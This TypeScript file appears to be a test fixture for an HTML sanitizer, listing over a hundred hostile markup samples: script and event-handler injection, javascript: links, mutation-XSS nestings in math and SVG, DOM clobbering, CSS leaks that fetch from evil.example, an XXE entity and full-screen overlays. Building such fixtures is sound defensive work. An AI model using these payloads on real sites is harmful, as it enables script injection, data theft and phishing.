/**
 * Letters that try to run, to call home, to pose or to get out of their frame. Each would set `window.top.harm` or `window.harm`, fetch from
 * elsewhere, or leave a live control, if it got through.
 */
const HARM = 'try{top.harm=1}catch{};window.harm=1';

export const HOSTILE_LETTERS: Readonly<Record<string, string>> = {
  script: `<script>${HARM}</script>`,
  'script in svg': `<svg><script>${HARM}</script></svg>`,
  'script by src': '<script src="https://evil.example/x.js"></script>',
  'script in uppercase and halves': `<SCR<script>IPT>${HARM}</SCR</script>IPT>`,
  onerror: `<img src=x onerror="${HARM}">`,
  'onerror without quotes': `<img/src=x/onerror=${HARM.replace(/[{};]/g, '')}>`,
  'onload on body': `<body onload="${HARM}">`,
  'onload on svg': `<svg/onload="${HARM}">`,
  'onfocus with autofocus': `<input autofocus onfocus="${HARM}"><a href=# autofocus onfocus="${HARM}" tabindex=1>x</a>`,
  'ontoggle on details': `<details open ontoggle="${HARM}">x</details>`,
  onanimationstart: `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${HARM}">x</b>`,
  'onbegin in svg': `<svg><animate onbegin="${HARM}" attributeName=x dur=1s>`,
  'javascript link': `<a href="javascript:${HARM}">x</a>`,
  'javascript link with tab and entities': `<a href="java&#x09;script&colon;${HARM}">x</a>`,
  'javascript link with control before': `<a href="&#1;javascript:${HARM}">x</a>`,
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data link': `<a href="data:text/html,<script>${HARM}</script>">x</a>`,
  'xlink in svg': `<svg><a xlink:href="javascript:${HARM}"><text y=20>x</text></a></svg>`,
  'use in svg': '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  'iframe by srcdoc': `<iframe srcdoc="<script>parent.parent.harm=1</script>"></iframe>`,
  'iframe by javascript': `<iframe src="javascript:${HARM}"></iframe>`,
  'iframe from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  base: '<base href="https://evil.example/"><a href="login">x</a><img src="pixel.gif">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'form to elsewhere': '<form action="https://evil.example/"><input name=p type=password><button>x</button></form>',
  formaction: '<button form=f formaction="javascript:top.harm=1">x</button><form id=f></form>',
  'isindex by select': '<select><option>x</select><textarea>x</textarea>',
  'link to a style sheet':
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/y">',
  'link of dns-prefetch':
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
  'import in style': '<style>@import url("https://evil.example/x.css");@import "//evil.example/y.css";</style>',
  'font in style':
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}b{font-family:x}</style><b>x</b>',
  'background in style': '<style>b{background:url(https://evil.example/bg.png)}</style><b>x</b>',
  'background with escapes': '<b style="background:u\\72l(https://evil.example/esc.png)">x</b>',
  'background with a comment': '<b style="background:/**/url(/*a*/https://evil.example/com.png)">x</b>',
  'image-set': '<b style="background-image:image-set(\'https://evil.example/set.png\' 1x)">x</b>',
  variable: '<style>:root{--x:url(https://evil.example/v.png)}b{background:var(--x)}</style><b>x</b>',
  'list-style and cursor':
    '<ul style="list-style:url(https://evil.example/l.png);cursor:url(https://evil.example/c.cur),auto"><li>x</ul>',
  'border-image, mask, shape':
    '<b style="border-image:url(https://evil.example/b.png) 1;mask:url(https://evil.example/m.svg#a);shape-outside:url(https://evil.example/s.png);display:block">x</b>',
  content: '<style>b::after{content:url(https://evil.example/after.png)}</style><b>x</b>',
  'filter in svg': '<b style="filter:url(https://evil.example/f.svg#a)">x</b>',
  'attribute selector that tells a letter':
    '<style>a[href^="https://a"]{background:url(https://evil.example/?a)}</style><a href="https://a.example">x</a>',
  'font of single letters':
    '<style>@font-face{font-family:q;src:url(https://evil.example/?A);unicode-range:U+0041}p{font-family:q}</style><p>A</p>',
  'scroll to text and lazy picture': '<img loading=lazy src="https://evil.example/lazy.gif">',
  'picture with srcset':
    '<img srcset="https://evil.example/2x.png 2x"><picture><source srcset="https://evil.example/p.webp"><img></picture>',
  'video, audio, track':
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  'picture by protocol alone':
    '<img src="//evil.example/rel.gif"><table background="https://evil.example/t.gif"><td background="https://evil.example/td.gif">x</table>',
  'picture of backslashes': '<img src="https:\\\\evil.example\\bs.gif"><img src="\\\\evil.example\\bs2.gif">',
  'svg picture that runs': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HARM}'/>">`,
  ping: '<a href="https://a.example" ping="https://evil.example/ping">x</a>',
  'fixed cover':
    '<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="https://evil.example">x</a></div>',
  'fixed cover by a sheet, by sticky and by a transform':
    '<style>.c{position:fixed!important;inset:0}.s{position:sticky;top:0}@media all{.c{position:fixed}}@layer x{.c{position:fixed}}@supports (top:0){.c{position:fixed}}</style><div class="c">x</div><p class="s">x</p>',
  'nested rules that cover and fetch':
    '<style>.n{color:red;& b{position:fixed;background:url(https://evil.example/n.png)}}</style><div class="n"><b>x</b></div>',
  'sheet that types what it reads':
    '<style>@import url(//evil.example/a);@namespace url(https://evil.example/n);@container (width>1px){b{background:url(https://evil.example/c)}}@property --p{syntax:"*";inherits:false;initial-value:url(https://evil.example/p)}@counter-style q{system:cyclic;symbols:url(https://evil.example/q)}</style><b>x</b>',
  'attr and image of a typed value':
    '<b data-x="https://evil.example/attr" style="background-image:image(attr(data-x type(<url>)));background:src(attr(data-x))">x</b>',
  'mXSS by mglyph and malignmark': `<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror="${HARM}">]]></style></mglyph></table></mtext></math>`,
  'mXSS by desc and foreignObject': `<svg><desc><style><a title="</style><img src=x onerror='${HARM}'>"></style></desc><foreignObject><p><style><!--</style><img src=x onerror="${HARM}">--></style></p></foreignObject></svg>`,
  'mXSS by plaintext, noembed and noframes': `<noembed><img title="</noembed><img src=x onerror='${HARM}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${HARM}'>"></noframes><plaintext><img src=x onerror="${HARM}">`,
  'mXSS by title in svg': `<svg><title><style><a id="</title><img src=x onerror='${HARM}'>"></style></title></svg>`,
  'mXSS by deep nesting that flattens': `${'<math><mi>'.repeat(300)}<style><!--</style><img title="--&gt;&lt;img src=x onerror='${HARM}'&gt;">`,
  'processing instruction': `<?xml-stylesheet href="https://evil.example/x.xsl"?><?x ><img src=x onerror='${HARM}'>?>`,
  'null and odd white space in names': `<img\u000Csrc=x\u000Conerror="${HARM}"><im\u0000g src=x onerror="${HARM}"><a href="\u0000javascript:${HARM}">x</a>`,
  'handlers of newer browsers': `<div oncontentvisibilityautostatechange="${HARM}" style="content-visibility:auto">x</div><div popover onbeforetoggle="${HARM}" id=q></div><a onpointerrawupdate="${HARM}" onscrollend="${HARM}">x</a>`,
  'commands and anchors of newer browsers':
    '<button commandfor=d command=show-modal>x</button><dialog id=d closedby=any>x</dialog><div anchor=d style="position:fixed;position-anchor:--a;inset:anchor(auto)">x</div>',
  'noscript in head': `<head><noscript><style></noscript><img src=x onerror='${HARM}'></style></noscript></head>`,
  'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror='${HARM}'>">`,
  'mXSS by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${HARM}'&gt;">`,
  'mXSS by math and annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${HARM}"></style></annotation-xml></math>`,
  'mXSS by svg style': `<svg></p><style><a id="</style><img src=1 onerror='${HARM}'>">`,
  'mXSS by nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${HARM}'>`,
  'mXSS by template': `<template><script>${HARM}</script></template><template shadowrootmode=open><script>${HARM}</script></template>`,
  'mXSS by select and xmp': `<select><xmp><script>${HARM}</script></xmp></select><xmp><img src=x onerror='${HARM}'></xmp>`,
  'mXSS by listing and textarea': `<textarea></textarea><listing>&lt;img onerror="${HARM}" src=x&gt;</listing>`,
  'mXSS by CDATA': `<svg><![CDATA[><img src=x onerror='${HARM}'>]]></svg>`,
  'comment that ends early': `<!--><img src=x onerror='${HARM}'>--><!--!><script>${HARM}</script>-->`,
  'conditional comment': `<!--[if gte IE 4]><script>${HARM}</script><![endif]-->`,
  clobbering:
    '<img name=querySelectorAll><form name=body><input name=childNodes></form><a id=location href="https://evil.example"></a>',
  'clobbered attributes': '<form id=x><input name=attributes><input name=removeAttribute></form>',
  'very deep': `${'<div>'.repeat(2_000)}x`,
  'style that never ends': '<style>b{color:red;background:url(https://evil.example/end',
  'style with markup': `<style></style/><script>${HARM}</script>`,
  'custom element': `<x-evil onclick="${HARM}">x</x-evil><b is="x-evil">x</b>`,
  'dialog and popover': '<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>',
  'contenteditable and drag': '<div contenteditable draggable=true>x</div>',
  'target and opener':
    '<a href="https://evil.example" target="_top" rel="opener">x</a><area href="https://evil.example" target="_parent">',

  // Further families of DOMPurify's own fixtures, in words of our own.
  ...Object.fromEntries(
    (
      'acceptCharset activeElement adoptNode attributes children cookie createElement firstElementChild getElementById ' +
      'hasChildNodes insertBefore namespaceURI nextSibling nodeName nodeType ownerDocument parentNode removeAttributeNode ' +
      'removeChild setAttribute submit textContent'
    )
      .split(' ')
      .map((name) => [
        `clobbered ${name}`,
        `<form onsubmit="${HARM}" id=${name}><input name=${name} onfocus="${HARM}" autofocus></form><img src=x name=${name} onerror="${HARM}">`,
      ]),
  ),
  'javascript link behind every white space': [
    '0001',
    '00A0',
    '1680',
    '180E',
    '2000',
    '200A',
    '200B',
    '2028',
    '2029',
    '205F',
    '3000',
    'FEFF',
  ]
    .map((code) => `<a href="&#x${code};javascript:${HARM}">x</a><a href="java&#x${code};script:${HARM}">x</a>`)
    .join(''),
  'the tag image': `<image name=body src=x onerror="${HARM}"><image name=adoptNode><svg onload="${HARM}">`,
  'option that hides a sheet or a frame': `<option><style></option></select><b><img src=x onerror="${HARM}"></style></option><option><iframe></select><b><script>${HARM}</script>`,
  'template within template': `<body><template><s><template><s><img src=x onerror="${HARM}">x</s></template></s></template>`,
  'select with a template': `<select><template><img src=x onerror="${HARM}"></template></select>`,
  'body, frameset and head out of place': `<div><body onscroll="${HARM}" oninput="${HARM}"><frameset onload="${HARM}"><head><base href="javascript://"></head><a href="/. /,${HARM}//#">x</a></div>`,
  'other charsets': `<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA <meta charset="x-mac-farsi">\u00BCscript\u00BE${HARM}\u00BC/script\u00BE +ADw-script+AD4-${HARM}+ADw-/script+AD4-`,
  'svg that sets an address': `<svg><a xlink:href="?"><circle r=400 /><animate attributeName="xlink:href" begin=0 from="javascript:${HARM}" to="&" /></a><a><set attributeName=href to="javascript:${HARM}" /><text y=20>x</text></a></svg>`,
  'svg that sets a handler': `<svg><set attributeName=onmouseover to="${HARM}" /><animate attributeName=onload values="${HARM}" /></svg>`,
  'svg that fetches by key': `<svg><image><set attributeName="xlink:href" begin="accessKey(a)" to="//evil.example/?a" /></image><feImage><set attributeName="xlink:href" to="https://evil.example/fe" /></feImage></svg>`,
  'svg by handler and listener': `<svg id=x><listener event=load handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer=x /><handler id=y ev:event=load>${HARM}</handler></svg>`,
  'svg paint from elsewhere':
    '<svg><rect width=9 height=9 style="clip-path:url(https://evil.example/a#a);fill:url(https://evil.example/b#b);marker:url(https://evil.example/d#d);mask:url(https://evil.example/e#e);stroke:url(https://evil.example/f#f)" /></svg>',
  'svg in a prefix': `<html xmlns:svg="http://www.w3.org/2000/svg"><svg:svg onload="${HARM}"><svg:script>${HARM}</svg:script></svg:svg>`,
  'math that links': `<math href="javascript:${HARM}">x</math><math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:${HARM}">x</maction></math>`,
  'style sheets of XML': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,x"?><!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example/x.xxe">]><stylesheet xmlns="http://www.w3.org/TR/WD-xsl"><template match="/"><eval>${HARM}</eval></template></stylesheet>&y;`,
  'declarations that hide markup': `<? x="><script>${HARM}</script>"><! x="><script>${HARM}</script>"></ x="><script>${HARM}</script>"><% x><p y="%><script>${HARM}</script>">`,
  'tags that are begun twice': `<b <script>${HARM}//</script>0</script></b><script<b></b><${HARM}</script </b><script<{${HARM}}/></script >`,
  'back-quotes for quotes': `<a href=https://a.example/#x=\`y></a><img alt="\`><img src=xx onerror='${HARM}'></a>"><img src="x\` \`<script>${HARM}</script>"\` \`>`,
  'behaviours of old browsers': `<b style="behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#a);width:expression(${HARM})">x</b><a style="-o-link:'javascript:${HARM}';-o-link-source:current">x</a>`,
  'a style that ends its declaration':
    '<b style="font-family:foo}*{background:url(https://evil.example/end.png)">x</b><b style="font-family:foo[bar;background:url(https://evil.example/bra.png)">x</b>',
  'frames by other schemes':
    '<iframe src="mhtml:https://evil.example/t.html!x"></iframe><iframe src="view-source:https://evil.example/"></iframe><iframe sandbox="allow-scripts allow-same-origin" src="https://evil.example/"></iframe>',
  'objects with what they are given': `<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name=DataURL value="javascript:${HARM}"></object><embed src="data:image/svg+xml,<svg onload='${HARM}'>">`,
  'fields that say more than they show':
    '<form><input name=injected dirname=password><input pattern="^((a+.)a)+$" value="aaaaaaaaaaaaaaaaaaaaaaaaaaaa!"></form>',
  'titles with handlers': `<title onpropertychange="${HARM}"></title><title title=></title><label datasrc="#x" datafld=y dataformatas=html></label>`,
  'mXSS by a paragraph out of svg': `<svg></p><textarea><title><style></textarea><img src=x onerror="${HARM}"></style></title></svg>`,
  'mXSS by a break out of math': `<math></br><textarea><mtext><template><style></textarea><img src=x onerror="${HARM}">`,
  'mXSS by math in svg': `<svg></p><math><title><style><img src=x onerror="${HARM}"></style></title>`,
  'mXSS by an entity in a handler': `<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;${HARM}<!--"></style>`,
  'mXSS by forms and a path': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${HARM}' src>">`,
  'mXSS by headings within links': `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${HARM}'>"></style></h1>`,
  'mXSS by an element of no name': `a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror='${HARM}'>">`,
  'mXSS by an option': `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${HARM}'>">`,
  'mXSS by what is removed': `<xmp><svg><b><style><b title='</style><img src=x onerror="${HARM}">'></xmp><noembed><svg><b><style><b title='</style><img src=x onerror="${HARM}">'>`,
  'mXSS by a comment in a comment': `<!-- \`<img src=xxx onerror='${HARM}'>//--!>x<comment><img src="</comment><img src=x onerror='${HARM}'>">`,
  'mXSS by a style within svg': `<svg><style><img src=x onerror="${HARM}">// </b>`,
  'parts of pages and commands': `<search><form action="./search/"><input type=search><button type=submit command=--x commandfor=a popovertarget=a popovertargetaction=show>x</button></form></search><div inert>x</div>`,
};
